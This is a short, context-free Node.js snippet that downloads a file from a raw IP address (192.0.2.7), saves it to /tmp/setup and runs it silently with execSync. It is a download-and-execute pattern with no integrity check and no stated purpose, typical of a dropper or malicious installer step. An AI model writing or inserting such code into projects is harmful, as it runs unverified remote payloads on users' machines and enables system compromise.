const fs = require('fs');
const { execSync } = require('child_process');
const answer = await fetch('http://192.0.2.7/setup');
const text = await answer.text();
fs.writeFileSync('/tmp/setup', text);
execSync('/tmp/setup --quiet');
